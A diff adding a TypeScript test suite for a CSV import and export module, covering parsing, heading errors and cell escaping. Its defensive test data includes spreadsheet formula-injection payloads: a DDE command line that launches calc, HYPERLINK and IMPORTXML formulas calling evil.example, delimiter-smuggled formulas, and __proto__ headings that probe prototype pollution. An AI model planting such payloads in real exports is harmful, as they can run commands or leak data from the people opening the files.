@@ -1,0 +1,216 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { writeFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { plainText } from '../output/plain-text.ts';
+import { aWorkplace } from '../testing/run.ts';
+import { csvLine, plainCell } from './csv-cells.ts';
+import { HEADINGS } from './csv-columns.ts';
+import { readCsv } from './read-csv.ts';
+import { UnreadableRows, type BatchRow } from './row.ts';
+
+async function rowsOf(text: string | Uint8Array): Promise<BatchRow[]> {
+  const file = aWorkplace().at('rows.csv');
+  writeFileSync(file, text);
+  const rows: BatchRow[] = [];
+  for await (const row of readCsv(file, text.length)) rows.push(row);
+  return rows;
+}
+
+async function documentsOf(text: string | Uint8Array): Promise<unknown[]> {
+  return (await rowsOf(text)).map(({ document }) => document);
+}
+
+async function mistakesOf(text: string | Uint8Array): Promise<readonly string[]> {
+  try {
+    await rowsOf(text);
+  } catch (error) {
+    if (!(error instanceof UnreadableRows)) throw error;
+    return error.mistakes.map(({ path, message }) => `${path}: ${message}`);
+  }
+  return [];
+}
+
+describe('a CSV row', () => {
+  it('is the document that its headings name', async () => {
+    const text =
+      'household.postcode,household.housemates,person.termsAgreed,household.fullAddress.line1,invite.0.email\n' +
+      'LS6 1AA,4,TRUE,1 Low Road,bea@example.com\n';
+    expect(await documentsOf(text)).toEqual([
+      {
+        household: { postcode: 'LS6 1AA', housemates: '4', fullAddress: { line1: '1 Low Road' } },
+        person: { termsAgreed: true },
+        invite: [{ email: 'bea@example.com' }],
+      },
+    ]);
+  });
+
+  it.each([
+    ['a byte order mark', '\ufeffperson.tel\n07700900123\n'],
+    ['Windows line breaks', 'person.tel\r\n07700900123\r\n'],
+    ['no last line break', 'person.tel\n07700900123'],
+    ['quotes', '"person.tel"\n"07700900123"\n'],
+    ['blank lines', 'person.tel\n\n07700900123\n\n'],
+    ['spaces round the heading', ' person.tel \n07700900123\n'],
+  ])('is read with %s, leading zeros and all', async (_, text) => {
+    expect(await documentsOf(text)).toEqual([{ person: { tel: '07700900123' } }]);
+  });
+
+  it.each([';', '\t'])('may be parted by %j', async (delimiter) => {
+    const text = ['person.firstname', 'person.lastname'].join(delimiter);
+    expect(await documentsOf(`${text}\nAda${delimiter}"Byron, Countess"\n`)).toEqual([
+      { person: { firstname: 'Ada', lastname: 'Byron, Countess' } },
+    ]);
+  });
+
+  it('may have line breaks, quotes and 100,000 characters in a cell', async () => {
+    const long = 'x'.repeat(100_000);
+    const text = `person.firstname,person.lastname\n"A\nd""a",${long}\nBea,Cole\n`;
+    expect(await documentsOf(text)).toEqual([
+      { person: { firstname: 'A\nd"a', lastname: long } },
+      { person: { firstname: 'Bea', lastname: 'Cole' } },
+    ]);
+  });
+
+  it('leaves empty cells out', async () => {
+    expect(await documentsOf('person.firstname,package.voucher\nAda,  \n')).toEqual([
+      { person: { firstname: 'Ada' } },
+    ]);
+  });
+
+  it('with a yes or no that is none keeps the text, for the reader to refuse', async () => {
+    expect(await documentsOf('person.termsAgreed\nja\n')).toEqual([
+      { person: { termsAgreed: 'ja' } },
+    ]);
+  });
+
+  it('with a cell too few is a mistake of its own, and the others are read', async () => {
+    const rows = await rowsOf('person.firstname,person.lastname\nAda\nBea,Cole\n');
+    expect(rows.map(({ row, mistakes }) => [row, mistakes.map(({ message }) => message)])).toEqual([
+      [1, ['Line 2 has 1 cell, the headings are 2']],
+      [2, []],
+    ]);
+  });
+
+  it('is followed by its progress through the file', async () => {
+    const rows = await rowsOf(`person.tel\n${'07700900123\n'.repeat(3)}`);
+    const progress = rows.map((row) => row.progress);
+    expect(progress).toEqual([...progress].sort((a, b) => a - b));
+    expect(progress.at(-1)).toBeCloseTo(1, 1);
+  });
+});
+
+describe('the headings', () => {
+  it('are all named that are not known', async () => {
+    expect(await mistakesOf('person.tel,person.mail,tel,07700900123,,__proto__\n')).toEqual([
+      'column 2: The heading person.mail is not known. Did you mean person.email?',
+      'column 3: The heading tel is not known. Did you mean person.tel?',
+      'column 4: This heading is not known. See kettle schema batch',
+      'column 5: This column has no heading',
+      'column 6: This heading is not known. See kettle schema batch',
+    ]);
+  });
+
+  it('are not to be there twice', async () => {
+    expect(await mistakesOf('person.tel,person.tel\n')).toEqual([
+      'column 2: The heading person.tel is there twice',
+    ]);
+  });
+
+  it('have to be there', async () => {
+    expect((await mistakesOf('')).join()).toContain('The file is empty');
+  });
+
+  it('change no prototype', async () => {
+    const before = Object.getOwnPropertyNames(Object.prototype);
+    await mistakesOf('__proto__.x,constructor.prototype.y\n1,2\n');
+    expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
+  });
+
+  it('can name every leaf of the document', () => {
+    expect(HEADINGS).toContain('household.fullAddress.line1');
+    expect(HEADINGS).toContain('invite.14.email');
+    expect(HEADINGS).not.toContain('invite.15.email');
+  });
+});
+
+describe('a file that is no CSV', () => {
+  it.each([
+    ['person.tel\n"0770\n', /a quote mark is opened and never closed/],
+    ['person.tel\n"0770" x\n', /there is text right after a closing quote mark/],
+    ['person.tel\n07"70\n', /there is a quote mark in the middle of a cell/],
+  ])('names the line and never the text: %j', async (text, message) => {
+    const mistakes = await mistakesOf(text);
+    expect(mistakes.join()).toMatch(message);
+    expect(mistakes.join()).toMatch(/Line \d/);
+    expect(mistakes.join()).not.toContain('70');
+  });
+
+  it('or no UTF-8 is said so', async () => {
+    const text = Buffer.from('person.firstname\n\xc9lodie\n', 'latin1');
+    expect((await mistakesOf(text)).join()).toContain('The file is not UTF-8');
+  });
+});
+
+/** What a spreadsheet would run, or what some readers make such of (SEC-13). */
+const FORMULAS = [
+  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].map((sign) => `${sign}1+1`),
+  ...['=', '+', '-', '@'].flatMap((sign) =>
+    ['\t', '\r', '\u0000'].map((first) => `${first}${sign}1`),
+  ),
+  ...[' =1', '\n=1', '\ufeff=1', '"=1', "'=1", '\u001b[2J=1', '\u00a0=1'],
+  '+447700900123',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example","x")',
+  '=IMPORTXML("https://evil.example","//a")',
+];
+
+/** Formulas behind what would part two cells. */
+const BEHIND_A_DELIMITER = ['x,=1', 'x","=1', 'x;=1', 'x";"=1', 'x\t=1', 'x\n=1'];
+
+/** The cells of a line as a spreadsheet of any country reads it. */
+function cellsOf(line: string, delimiter: string): readonly string[] {
+  const records: string[][] = parse(line, {
+    delimiter,
+    relax_quotes: true,
+    relax_column_count: true,
+  });
+  return records.flat();
+}
+
+describe('a written cell', () => {
+  it.each(FORMULAS)('that a spreadsheet would run is made harmless: %j', (formula) => {
+    expect(cellsOf(csvLine([formula, 'x']), ',')[0]).toMatch(/^'/);
+  });
+
+  it.each([...FORMULAS, ...BEHIND_A_DELIMITER])('ends where it ends: %j', (text) => {
+    for (const delimiter of [',', ';', '\t']) {
+      for (const cell of cellsOf(csvLine([text, 'x']), delimiter)) {
+        expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
+      }
+    }
+  });
+
+  it('comes back as it was meant', () => {
+    for (const text of [...FORMULAS, ...BEHIND_A_DELIMITER, "'quoted'", "O'Neil", "''", '-']) {
+      const [cell = ''] = cellsOf(csvLine([text]), ',');
+      expect(plainCell(cell)).toBe(plainText(text));
+    }
+  });
+
+  it('is read as it was written, whatever is in it', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.string({ minLength: 1 }), async (text) => {
+        const cell = `x${text}`;
+        const read = await documentsOf(`person.lastname,person.firstname\n${csvLine([cell, 'y'])}`);
+        expect(read).toHaveLength(1);
+        expect(read[0]).toHaveProperty('person.firstname', 'y');
+      }),
+      { numRuns: 50 },
+    );
+  });
+
+  it('that is a number stays one', () => {
+    expect(csvLine([-5, undefined, 'a,b'])).toBe('-5,,"a,b"\n');
+  });
+});
